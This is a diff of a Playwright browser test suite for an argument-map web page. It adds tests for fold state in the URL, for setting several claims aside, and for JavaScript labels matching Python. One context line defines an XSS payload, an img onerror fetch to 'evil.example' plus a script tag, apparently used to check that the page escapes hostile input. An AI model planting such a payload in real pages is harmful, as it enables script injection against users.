@@ -1,6 +1,7 @@
 """Laws of the page in a real browser: Chromium, driven by Playwright."""
 
 import shutil
+from importlib.resources import files
 from io import BytesIO
 from pathlib import Path
 from typing import TYPE_CHECKING, Any
@@ -8,6 +9,7 @@ from unicodedata import normalize
 
 import attrs
 import pytest
+from hypothesis import given, settings, strategies as st
 
 from argmap import (
     ArgumentMap,
@@ -19,11 +21,15 @@ from argmap import (
     draw,
     evaluate,
 )
+from argmap.evaluation.asides import as_data
+from argmap.evaluation.grounded import label
+from argmap.model import ProofStandard
 from tests.diagram.debates import debate
 from tests.diagram.make_golden import EXAMPLES
 from tests.diagram.page.test_page import everywhere
 from tests.diagram.shapes import chain
 from tests.diagram.test_svg import HOSTILE
+from tests.evaluation.networks import Plan, plans
 
 if TYPE_CHECKING:
     from collections.abc import Callable, Iterator
@@ -40,6 +46,8 @@ WIDE = {"width": 1400, "height": 900}
 NARROW = {"width": 360, "height": 780}
 HOLE = "<img src=x onerror=fetch('//evil.example')><script>document.title='x'</script>"
 ARTICLE = EXAMPLES["russia_in_syria"]
+
+PLANS = plans() | plans(standards=st.sampled_from([*ProofStandard]))
 
 pytestmark = [
     pytest.mark.long,
@@ -379,6 +387,51 @@ def test_folding(browser: "Browser", tmp_path: Path) -> None:
     assert seen.page.locator(".row[data-parts='rose']").is_visible()
 
 
+def test_folds_are_in_the_address(browser: "Browser", tmp_path: Path) -> None:
+    """What is folded is named there by ids, few of them; back unfolds it again."""
+    seen = visit(browser, tmp_path, ARTICLE)
+    page, summaries = seen.page, seen.page.locator("details > summary")
+    hidden = "all => all.map((each, at) => each.open ? '' : each.dataset.below)"
+
+    def folded() -> set[str]:
+        found: list[str] = page.locator("details").evaluate_all(hidden)
+        return {*filter(None, found)}
+
+    every = set(
+        page.locator("details").evaluate_all("all => all.map(e => e.dataset.below)")
+    )
+    top = page.locator("details").first.get_attribute("data-below")
+    assert top
+    summaries.first.click()
+    assert page.url.endswith(f"#page-list&folded={top}")
+    page.reload()
+    assert folded() == {top}
+    summaries.first.focus()
+    page.keyboard.press("Enter")
+    assert (folded(), page.url.endswith("#page-list")) == (set(), True)
+    page.go_back()
+    assert folded() == {top}
+
+    page.get_by_role("button", name="Fold all", exact=True).click()
+    assert (folded(), page.url.endswith("&folded=*")) == (every, True)
+    summaries.first.click()
+    assert page.url.endswith(f"&folded=*&unfolded={top}")
+    page.reload()
+    assert folded() == every - {top}
+    address = page.url
+    page.locator("details[open] > ol .row > a").first.click()
+    below = page.locator(".row.chosen").evaluate("row => row.closest('details').open")
+    assert below
+    assert folded() <= every - {top}
+    page.goto(address.replace("page-list", "row-2"))
+    assert folded() == every - {top}
+
+    page.get_by_label("Search", exact=True).last.fill("russia")
+    assert page.locator(".row:not(.unfound)").count()
+    for row in page.locator(".row:not(.unfound)").all():
+        assert row.is_visible()
+
+
 def test_search_and_filters(browser: "Browser", tmp_path: Path) -> None:
     """What is found is shown with what it speaks for, and counted; all else is not."""
     argument_map = ArgumentMap.of(
@@ -425,18 +478,20 @@ def test_search_and_filters(browser: "Browser", tmp_path: Path) -> None:
 
 
 @pytest.mark.parametrize("name", EXAMPLES)
-def test_what_if_a_claim_fell(browser: "Browser", tmp_path: Path, name: str) -> None:
-    """Set aside, each claim changes just the verdicts that `evaluate` says."""
+def test_what_if_claims_fell(browser: "Browser", tmp_path: Path, name: str) -> None:
+    """Set aside, claims change just the verdicts that `evaluate` says without them."""
     argument_map = EXAMPLES[name]
     seen = visit(browser, tmp_path, argument_map)
     before = evaluate(argument_map).verdicts
     drawn = draw(argument_map).plan.boxes_by_part
-    for claim in argument_map.claims[:40]:
-        if claim.id not in drawn:
-            continue
-        seen.page.evaluate(f"location.hash = '#part-{claim.id}&aside={claim.id}'")
-        seen.page.wait_for_selector(f".row.aside[data-parts='{claim.id}']")
-        after = evaluate(argument_map, without=[claim]).verdicts
+    claims = [each.id for each in argument_map.claims if each.id in drawn]
+    for at in range(min(40, len(claims))):
+        fallen = claims[at :: len(claims) // (at % 4 + 1)]
+        aside = ",".join(fallen)
+        seen.page.evaluate(f"location.hash = '#part-{fallen[0]}&aside={aside}'")
+        seen.page.wait_for_selector(f".row.aside[data-parts='{fallen[-1]}']")
+        seen.page.wait_for_selector(f".row.chosen[data-parts='{fallen[0]}']")
+        after = evaluate(argument_map, without=fallen).verdicts
         changed = {
             each: "rejected" if after[each].is_rejected else after[each].value
             for each in drawn
@@ -445,8 +500,49 @@ def test_what_if_a_claim_fell(browser: "Browser", tmp_path: Path, name: str) -> 
             != (before[each], before[each].is_rejected)
             and not (after[each].is_rejected and before[each].is_rejected)
         }
-        assert seen.verdicts == changed | {claim.id: "aside"}
+        assert seen.verdicts == changed | dict.fromkeys(fallen, "aside")
     assert seen.said == []
+
+
+@given(st.lists(st.tuples(PLANS, st.sets(st.integers(0, 30))), min_size=20))
+@settings(max_examples=30, deadline=None)
+def test_labels_in_a_browser(
+    browser: "Browser", drawn: list[tuple[Plan, set[int]]]
+) -> None:
+    """Whatever is set aside together, a page and Python come to the same labels."""
+    script = files("argmap.diagram.page").joinpath("labels.js").read_text("utf-8")
+    cases, expected = [], []
+    for plan, picked in drawn:
+        net, alone = plan.network(), plan.network()
+        aside = sorted(picked.intersection(range(len(net.ids))))
+        for part in aside:
+            alone.exclude(part)
+        cases.append([as_data(net), aside])
+        expected.append([*map(int, label(alone).labels)])
+    page = browser.new_page()
+    found = page.evaluate(
+        f"cases => {{ {script}; return cases.map(each => labelsWithout(...each)); }}",
+        cases,
+    )
+    page.close()
+
+    assert found == expected
+
+
+def test_where_steps_are_strict(browser: "Browser", tmp_path: Path) -> None:
+    """Where each claim aside is a case of its own, one is set aside at a time."""
+    argument_map = attrs.evolve(
+        RENTS,
+        inferences=[Inference(["rose"], conclusion="cap", strict=True)],
+    )
+    assert evaluate(argument_map).dependence is None
+    seen = visit(browser, tmp_path, argument_map)
+
+    for claim in ("wages", "rose"):
+        seen.page.locator(f".row[data-parts='{claim}'] > a").click()
+        seen.page.keyboard.press("w")
+        changes = evaluate(argument_map).without_each.get(claim, {})
+        assert seen.verdicts == {claim: "aside", **changes}
 
 
 def test_setting_a_claim_aside_and_back(browser: "Browser", tmp_path: Path) -> None:
@@ -471,6 +567,32 @@ def test_setting_a_claim_aside_and_back(browser: "Browser", tmp_path: Path) -> N
     assert seen.heading == "Rents rose."
     seen.page.keyboard.press("w")
     assert seen.verdicts["rose"] == "aside"
+
+
+def test_setting_several_claims_aside(browser: "Browser", tmp_path: Path) -> None:
+    """The address names each; one is put back by itself, or all together."""
+    seen = visit(browser, tmp_path, RENTS)
+    question = seen.page.locator("article:visible .what-if")
+    seen.page.locator(".row a", has_text="So did wages.").click()
+    assert question.inner_text() == "What if this fell?"
+    question.click()
+    assert question.inner_text() == "Put this back"
+    seen.page.locator(".row a", has_text="Rents rose.").click()
+    assert question.inner_text() == "What if this fell too?"
+    question.click()
+
+    assert seen.page.url.endswith("#part-rose&aside=wages,rose")
+    assert seen.verdicts == {"wages": "aside", "rose": "aside"}
+    told = seen.page.locator("#page-aside").inner_text()
+    assert "So did wages. and 2 Rents rose. fell, no other verdict" in told
+    seen.page.reload()
+    assert seen.verdicts == {"wages": "aside", "rose": "aside"}
+    question.click()
+    assert seen.verdicts == {"wages": "aside", "cap": "stands"}
+    seen.page.go_back()
+    assert seen.verdicts == {"wages": "aside", "rose": "aside"}
+    seen.page.get_by_role("link", name="Put them back").click()
+    assert seen.verdicts == {}
 
 
 def test_focus_can_be_seen(browser: "Browser", tmp_path: Path) -> None:
@@ -736,7 +858,7 @@ def test_a_large_map(browser: "Browser", tmp_path: Path) -> None:
     assert seen.page.locator(".row").count() == 1500
     assert spent("TaskDuration") < 3
     before = spent("ScriptDuration")
-    acts = "nnruspwwf"
+    acts = "nnruspwnwff"
     for key in acts:
         page.keyboard.press(key)
     page.evaluate("location.hash = '#part-c1499'")
